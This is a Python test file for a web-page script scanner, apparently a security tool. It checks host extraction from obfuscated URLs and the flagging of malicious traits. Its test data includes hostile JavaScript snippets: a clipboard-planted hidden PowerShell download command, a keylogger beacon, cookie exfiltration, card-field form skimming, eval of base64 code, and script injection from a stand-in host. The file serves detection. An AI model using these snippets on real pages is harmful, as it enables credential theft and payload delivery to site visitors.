"""Reading scripts: masking, hidden hosts, marks."""

import base64
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tenshu.engines.page_scan.literals import read_literals
from tenshu.engines.page_scan.scripts import read_script

pytestmark = pytest.mark.engine

WORDS = st.text(alphabet="abcdefghijklmnopqrstuvwxyz", min_size=1, max_size=12)
HOSTS = st.builds(lambda name: f"{name}.example", WORDS)


@settings(deadline=None)
@given(st.text(max_size=40), st.text(max_size=40), st.integers(0, 10**9), st.integers(0, 10**9))
def test_scripts_that_differ_only_in_literals_have_one_masked_hash(one, other, first, second):
    template = "var token = %s, time = %d; send(token, {a: time});"
    left = read_literals(template % (json.dumps(one), first))
    right = read_literals(template % (json.dumps(other), second))
    assert left.masked_hash == right.masked_hash


@settings(deadline=None)
@given(
    st.lists(st.integers(0, 999), min_size=2, max_size=30),
    st.lists(st.integers(0, 999), min_size=2, max_size=30),
)
def test_a_longer_list_of_numbers_masks_to_the_same_hash(one, other):
    assert read_literals(f"plot({one})").masked_hash == read_literals(f"plot({other})").masked_hash


@settings(deadline=None)
@given(st.text(max_size=300))
def test_any_text_can_be_read_as_a_script(source):
    assert read_script(source).masked_hash


def test_another_statement_changes_the_masked_hash():
    assert read_literals("a(1)").masked_hash != read_literals("a(1);b(1)").masked_hash


def hidden(host, way):
    url = f"https://{host}/p.js"
    codes = ",".join(str(ord(char)) for char in url)
    escaped = "".join(f"\\x{ord(char):02x}" for char in url)
    pieces = ",".join(f"'{char}'" for char in url)
    return {
        "base64": f"atob('{base64.b64encode(url.encode()).decode()}')",
        "hex": f"unhex('{url.encode().hex()}')",
        "codes": f"String.fromCharCode({codes})",
        "escaped": f"'{escaped}'",
        "reversed": f"'{url[::-1]}'.split('').reverse().join('')",
        "pieces": f"[{pieces}].join('')",
    }[way]


@settings(deadline=None)
@given(HOSTS, st.sampled_from(["base64", "hex", "codes", "escaped", "reversed", "pieces"]))
def test_a_host_cannot_hide_in_a_coding(host, way):
    reading = read_script(
        f"var s=document.createElement('script');s.src={hidden(host, way)};document.head.appendChild(s)"
    )
    assert host in dict(reading.hosts)
    assert "hidden-host" in reading.traits


@settings(deadline=None)
@given(HOSTS, st.integers(1, 14))
def test_a_host_cannot_hide_in_a_split_string(host, cut):
    url = f"https://{host}/p.js"
    reading = read_script(f"fetch('{url[:cut]}' + '{url[cut:]}')")
    assert host in dict(reading.hosts)


@pytest.mark.parametrize(
    ("source", "mark"),
    [
        ("eval(atob('YWxlcnQoMSk7YWxlcnQoMik='))", "decode-and-run"),
        (
            "navigator.clipboard.writeText('powershell -w hidden -c iwr http://a.example')",
            "clipboard-command",
        ),
        ("if(/google|bing/.test(document.referrer)){location='/x'}", "referrer-gate"),
        (
            "document.addEventListener('keydown',function(e){k+=e.key;navigator.sendBeacon('/l',k)})",
            "keys-recorded",
        ),
        ("new Image().src='/p.gif?c='+document.cookie", "cookie-sent"),
        (
            "document.querySelectorAll('input').forEach(i=>d[i.name]=i.value);fetch('/x',{body:d.cvv,method:'POST'})",
            "all-forms-hooked",
        ),
        ("document.body.innerHTML='<h1>x</h1>'", "replaces-page"),
    ],
)
def test_a_script_shows_what_it_is_able_to_do(source, mark):
    assert mark in read_script(source).traits


@pytest.mark.parametrize(
    "source",
    [
        "document.getElementById('menu').classList.toggle('open')",
        "fetch('/api/zip?q='+q.value).then(r=>r.json())",
        "document.addEventListener('keydown',e=>{if(e.key==='Escape')close()})",
        "var d=new Date();document.write(d.getFullYear())",
        "if(/iPhone/.test(navigator.userAgent)){location.href='/sp/'}",
        "var root=Function('return this')();root.x=String.fromCharCode(65)",
    ],
)
def test_an_everyday_script_stays_below_the_alarm(source):
    assert read_script(source).weight < 4


def test_the_parts_of_a_large_library_are_not_taken_together():
    filler = "function f(){return 1}\n" * 400
    far = "var v=document.querySelectorAll('form')[0].value"
    source = f"var c=document.cookie;{filler}var x=new XMLHttpRequest();{filler}{far}"
    assert read_script(source).weight < 4


def test_names_of_vocabularies_are_no_hosts():
    assert read_script("e('http://www.w3.org/2000/svg')").hosts == ()
